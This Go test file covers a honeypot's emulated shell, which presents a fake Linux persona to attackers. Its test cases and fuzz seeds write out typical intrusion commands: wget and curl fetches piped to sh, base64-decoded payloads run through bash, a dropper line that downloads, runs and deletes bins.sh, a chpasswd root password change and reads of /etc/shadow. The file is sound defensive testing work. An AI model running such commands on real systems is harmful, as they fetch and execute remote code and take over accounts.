package shell

import (
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/persona"
)

var testPersona = persona.New([]byte("secret"), "decky-test")

// newTestShell is a shell of the test persona for login user.
func newTestShell(t testing.TB, user string, mode Mode) *Shell {
	t.Helper()
	l, ok := testPersona.Account(user)
	if !ok {
		t.Fatalf("persona has no user %q", user)
	}
	now := time.Date(2026, 5, 5, 10, 11, 12, 0, time.UTC)
	return New(Config{Persona: testPersona, Login: l, Mode: mode, SrcIP: "198.51.100.7",
		DstIP: "10.0.0.2", Now: func() time.Time { return now }})
}

func run(sh *Shell, line string) string {
	var b strings.Builder
	sh.Run(line, &b)
	return b.String()
}

func TestShellCommands(t *testing.T) {
	p := testPersona
	user := p.User
	passwd, _ := newFileSystem(p, nil).get("/etc/passwd")
	tests := []struct {
		name   string
		user   string
		setup  []string // lines run first
		line   string
		want   string // exact output, unless contains is set
		has    []string
		status int
	}{
		{name: "whoami", line: "whoami", want: "root\n"},
		{name: "id root", line: "id", want: "uid=0(root) gid=0(root) groups=0(root)\n"},
		{name: "id user", user: user, line: "id -un", want: user + "\n"},
		{name: "uname", line: "uname", want: "Linux\n"},
		{name: "uname -a", line: "uname -a", want: p.Uname() + "\n"},
		{name: "uname -r", line: "uname -r", want: p.KernelRelease + "\n"},
		{name: "uname -n", line: "uname -n", want: p.Hostname + "\n"},
		{name: "uname -s -m", line: "uname -s -m", want: "Linux x86_64\n"},
		{name: "uname -sr", line: "uname -sr", want: "Linux " + p.KernelRelease + "\n"},
		{name: "uname bad flag", line: "uname -z", want: "uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n", status: 1},
		{name: "pwd home", line: "pwd", want: "/root\n"},
		{name: "cd and pwd", line: "cd /var/log && pwd", want: "/var/log\n"},
		{name: "cd home", setup: []string{"cd /tmp"}, line: "cd; pwd", want: "/root\n"},
		{name: "cd dash", setup: []string{"cd /etc", "cd /tmp"}, line: "cd -", want: "/etc\n"},
		{name: "cd missing", line: "cd /nope", want: "-bash: cd: /nope: No such file or directory\n", status: 1},
		{name: "cd file", line: "cd /etc/passwd", want: "-bash: cd: /etc/passwd: Not a directory\n", status: 1},
		{name: "cd root as user", user: user, line: "cd /root", want: "-bash: cd: /root: Permission denied\n", status: 1},
		{name: "cat passwd", line: "cat /etc/passwd", want: passwd.data},
		{name: "cat missing", line: "cat /etc/nope", want: "cat: /etc/nope: No such file or directory\n", status: 1},
		{name: "cat dir", line: "cat /etc", want: "cat: /etc: Is a directory\n", status: 1},
		{name: "cat shadow as user", user: user, line: "cat /etc/shadow", want: "cat: /etc/shadow: Permission denied\n", status: 1},
		{name: "cat shadow as root", line: "cat /etc/shadow", has: []string{"root:$y$j9T$", "sshd:*:"}},
		{name: "echo", line: "echo hello   world", want: "hello world\n"},
		{name: "echo quoted", line: `echo "a  b" 'c  $HOME'`, want: "a  b c  $HOME\n"},
		{name: "echo -n", line: "echo -n x", want: "x"},
		{name: "echo -e hex", line: `echo -e '\x41\x42\n'`, want: "AB\n\n"},
		{name: "echo vars", line: "echo $HOME ${USER} $?", want: "/root root 0\n"},
		{name: "assignment", line: "X=42; echo $X", want: "42\n"},
		{name: "export", line: "export FOO=bar; env | grep FOO", want: "FOO=bar\n"},
		{name: "command substitution", line: "echo \"I am $(whoami) on `hostname`\"", want: "I am root on " + p.Hostname + "\n"},
		{name: "hostname", line: "hostname", want: p.Hostname + "\n"},
		{name: "not found", line: "foo", want: "-bash: foo: command not found\n", status: 127},
		{name: "not found status", line: "foo; echo $?", want: "-bash: foo: command not found\n127\n"},
		{name: "and list", line: "false && echo no; true && echo yes", want: "yes\n"},
		{name: "or list", line: "cd /nope 2>/dev/null || echo fallback", want: "fallback\n"},
		{name: "pipe grep wc", line: "cat /proc/cpuinfo | grep 'model name' | wc -l", want: itoa(hardwareOf(p).cores) + "\n"},
		{name: "pipe head", line: "cat /etc/passwd | head -n 1", want: "root:x:0:0:root:/root:/bin/bash\n"},
		{name: "grep file", line: "grep -c root /etc/passwd", want: "1\n"},
		{name: "redirect and read", line: "echo hi > /tmp/x; echo there >> /tmp/x; cat /tmp/x", want: "hi\nthere\n"},
		{name: "redirect into missing dir", line: "echo x > /nope/f", want: "-bash: /nope/f: No such file or directory\n", status: 1},
		{name: "redirect into /etc as user", user: user, line: "echo x > /etc/f", want: "-bash: /etc/f: Permission denied\n", status: 1},
		{name: "stderr to stdout", line: "cat /nope 2>&1 | wc -l", want: "1\n"},
		{name: "ls", line: "ls /", has: []string{"bin\n", "etc\n", "tmp\n", "var\n"}},
		{name: "ls hides dotfiles", line: "ls ~ | wc -l", want: "0\n"},
		{name: "ls -a", line: "ls -a", has: []string{".\n", "..\n", ".bashrc\n", ".profile\n"}},
		{name: "ls -l file", line: "ls -l /etc/passwd", has: []string{"-rw-r--r-- 1 root root " + itoa(len(passwd.data)) + " ", " /etc/passwd\n"}},
		{name: "ls -la", line: "ls -la /tmp", has: []string{"total ", "drwxrwxrwt ", " .\n", " ..\n"}},
		{name: "ls missing", line: "ls /nope", want: "ls: cannot access '/nope': No such file or directory\n", status: 2},
		{name: "ls root as user", user: user, line: "ls /root", want: "ls: cannot open directory '/root': Permission denied\n", status: 2},
		{name: "mkdir touch rm", line: "mkdir /tmp/d && touch /tmp/d/f && ls /tmp/d && rm -rf /tmp/d && ls /tmp/d",
			want: "f\nls: cannot access '/tmp/d': No such file or directory\n", status: 2},
		{name: "script runs after chmod", line: "cd /tmp; echo 'echo pwned' > a.sh; ./a.sh; chmod +x a.sh; ./a.sh",
			want: "-bash: ./a.sh: Permission denied\npwned\n"},
		{name: "missing script", line: "./x.sh", want: "-bash: ./x.sh: No such file or directory\n", status: 127},
		{name: "binary by path", line: "/bin/uname -m", want: "x86_64\n"},
		{name: "wget fails to resolve", line: "wget http://evil.example/a.sh", has: []string{"Resolving evil.example", "unable to resolve host address ‘evil.example’"}, status: 4},
		{name: "curl to ip", line: "curl http://203.0.113.5/x", want: "curl: (7) Failed to connect to 203.0.113.5 port 80 after 0 ms: Couldn't connect to server\n", status: 7},
		{name: "curl pipe sh", line: "curl -s http://x/y | sh", want: ""},
		{name: "base64 pipe sh", line: "echo ZWNobyBoaQ== | base64 -d | bash", want: "hi\n"},
		{name: "sh -c", line: "sh -c 'echo $USER'", want: "root\n"},
		{name: "awk fields", line: "echo 'a b c' | awk '{print $2,$3}'", want: "b c\n"},
		{name: "syntax error", line: "; ls", want: "-bash: syntax error near unexpected token `;'\n", status: 2},
		{name: "compound skipped", line: "for i in 1 2; do echo $i; done; echo after", want: "after\n"},
		{name: "comment", line: "echo a # b", want: "a\n"},
		{name: "exit stops the line", line: "exit; echo no", want: ""},
		{name: "history", setup: []string{"history -c", "echo one"}, line: "history", want: "    1  echo one\n    2  history\n"},
		{name: "ps", line: "ps", has: []string{"    PID TTY          TIME CMD\n", " bash\n", " ps\n"}},
		{name: "ps aux", line: "ps aux", has: []string{"USER         PID", "/sbin/init", "sshd: root@pts/0", "ps aux\n"}},
		{name: "w", line: "w", has: []string{"USER     TTY      FROM", "root     pts/0    198.51.100.7"}},
		{name: "uptime", line: "uptime", has: []string{" 10:11:12 up ", "load average: "}},
		{name: "which", line: "which wget ls nosuch", want: "/usr/bin/wget\n/usr/bin/ls\n", status: 1},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			u := tc.user
			if u == "" {
				u = "root"
			}
			sh := newTestShell(t, u, Interactive)
			for _, l := range tc.setup {
				run(sh, l)
			}
			got := run(sh, tc.line)
			if tc.has == nil && got != tc.want {
				t.Errorf("%s:\n got %q\nwant %q", tc.line, got, tc.want)
			}
			for _, h := range tc.has {
				if !strings.Contains(got, h) {
					t.Errorf("%s: output lacks %q:\n%s", tc.line, h, got)
				}
			}
			if sh.Status() != tc.status {
				t.Errorf("%s: status %d, want %d", tc.line, sh.Status(), tc.status)
			}
		})
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

func TestShellErrorPrefixes(t *testing.T) {
	for _, tc := range []struct {
		mode Mode
		want string
	}{
		{Interactive, "-bash: foo: command not found\n"},
		{Stdin, "-bash: line 1: foo: command not found\n"},
	} {
		if got := run(newTestShell(t, "root", tc.mode), "foo"); got != tc.want {
			t.Errorf("mode %d: %q, want %q", tc.mode, got, tc.want)
		}
	}
}

func TestPrompt(t *testing.T) {
	sh := newTestShell(t, "root", Interactive)
	host := testPersona.Hostname
	if got := sh.Prompt(); got != "root@"+host+":~# " {
		t.Errorf("root prompt %q", got)
	}
	run(sh, "cd /var/log")
	if got := sh.Prompt(); got != "root@"+host+":/var/log# " {
		t.Errorf("prompt in /var/log %q", got)
	}
	u := newTestShell(t, testPersona.User, Interactive)
	run(u, "mkdir -p ~/src; cd ~/src")
	if got := u.Prompt(); got != testPersona.User+"@"+host+":~/src$ " {
		t.Errorf("user prompt %q", got)
	}
}

func TestIncomplete(t *testing.T) {
	for line, want := range map[string]bool{
		"echo 'open": true, `echo "open`: true, "ls &&": true, "ls |": true, "echo $(ls": true, `echo \`: true,
		"ls": false, "echo 'a'": false, "ls; ": false, "": false,
	} {
		if got := Incomplete(line); got != want {
			t.Errorf("Incomplete(%q) = %v, want %v", line, got, want)
		}
	}
}

func TestShellLimits(t *testing.T) {
	sh := newTestShell(t, "root", Interactive)
	// A script that runs itself never ends in bash; here the depth limit stops it.
	run(sh, "echo './r.sh; ./r.sh' > /tmp/r.sh; chmod 755 /tmp/r.sh; cd /tmp")
	if out := run(sh, "./r.sh"); out != "" {
		t.Errorf("recursive script printed %q", out)
	}
	// The filesystem budget holds.
	big := strings.Repeat("A", maxLine-20)
	full := false
	for range maxWrite/len(big) + 2 {
		full = full || strings.Contains(run(sh, "echo "+big+" >> /tmp/big"), "No space left on device")
	}
	if n, _ := sh.fs.get("/tmp/big"); !full || len(n.data) > maxWrite {
		t.Errorf("writes past the budget: refused %v, file holds %d bytes", full, len(n.data))
	}
}

func TestLineEditor(t *testing.T) {
	var echo strings.Builder
	ed := &lineEditor{r: strings.NewReader("ab\x7fc\r\nx\x03ls\x1b[Awho\x15id\r\x04"), echo: &echo}
	var got []string
	for {
		line, ev, _ := ed.readLine()
		if ev == lineEOF {
			break
		}
		got = append(got, map[lineEvent]string{lineEnter: "enter:", lineInterrupt: "intr:"}[ev]+line)
	}
	if want := "enter:ac|intr:|enter:id"; strings.Join(got, "|") != want {
		t.Errorf("lines %q, want %q", strings.Join(got, "|"), want)
	}
	if !strings.Contains(echo.String(), "ab\b \bc\r\n") || !strings.Contains(echo.String(), "^C\r\n") {
		t.Errorf("echo %q", echo.String())
	}
}

// FuzzShellLine feeds command lines to the parser and interpreter. Seeds
// are lines attackers type (more under testdata/fuzz/FuzzShellLine). The
// shell must never panic, never print more than its output limit, and
// never let the session filesystem outgrow its budget.
func FuzzShellLine(f *testing.F) {
	for _, seed := range []string{
		"cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh",
		"cat /proc/cpuinfo | grep name | wc -l",
		`echo -e '\x41'`,
		"uname -a; cat /etc/passwd",
		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
		"echo \"root:Passw0rd\" | chpasswd",
		"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)",
		"crontab -l; w; uname -m; top -bn1 | head -5",
		"echo ZWNobyBoaQ== | base64 -d | bash",
		"for i in $(seq 1 10); do echo $i; done",
		`export PATH=$PATH:/usr/sbin; X="${HOME:-/}"; echo ${#X} $$ $?`,
		"(cd /tmp && ls) > /dev/null 2>&1 &",
		"echo 'unterminated",
		"; ;; && || | >",
		"$((1+2)) `whoami` $(echo $(id))",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		sh := newTestShell(t, "root", Interactive)
		var out bytes.Buffer
		sh.Run(line, &out)
		sh.Run(line, &out) // twice: the first run may have changed state
		if out.Len() > 2*maxOutput {
			t.Fatalf("printed %d bytes", out.Len())
		}
		if sh.fs.budget < 0 {
			t.Fatalf("filesystem budget %d", sh.fs.budget)
		}
	})
}

// BenchmarkShellCommand measures one typical attacker line through the
// interpreter.
func BenchmarkShellCommand(b *testing.B) {
	sh := newTestShell(b, "root", Interactive)
	for b.Loop() {
		sh.Run("cat /proc/cpuinfo | grep name | wc -l; uname -a; ls -la /etc", io.Discard)
	}
}

// Sessions of one persona share its filesystem's entries but never see
// each other's changes: what one session writes, appends, touches or
// chmods is its own copy.
func TestSessionsAreIsolated(t *testing.T) {
	a := newTestShell(t, "root", Interactive)
	b := newTestShell(t, "root", Interactive)
	before := run(b, "ls -l /etc/hostname; cat /etc/hostname; ls -l /bin/ls")
	run(a, "echo pwned >> /etc/hostname; chmod 777 /etc/hostname; touch /bin/ls; chmod 700 /bin/ls; rm -f /etc/passwd")
	if after := run(b, "ls -l /etc/hostname; cat /etc/hostname; ls -l /bin/ls"); after != before {
		t.Fatalf("another session's changes leaked:\nbefore %q\nafter  %q", before, after)
	}
	if out := run(b, "cat /etc/passwd"); !strings.Contains(out, "root:x:0:0") {
		t.Fatalf("a removal leaked: %q", out)
	}
	if out := run(a, "cat /etc/hostname; ls -l /etc/hostname"); !strings.Contains(out, "pwned") || !strings.Contains(out, "-rwxrwxrwx") {
		t.Fatalf("the session lost its own changes: %q", out)
	}
	if c := newTestShell(t, "root", Interactive); run(c, "cat /etc/hostname") != run(b, "cat /etc/hostname") {
		t.Fatal("a new session does not start from the persona's files")
	}
}
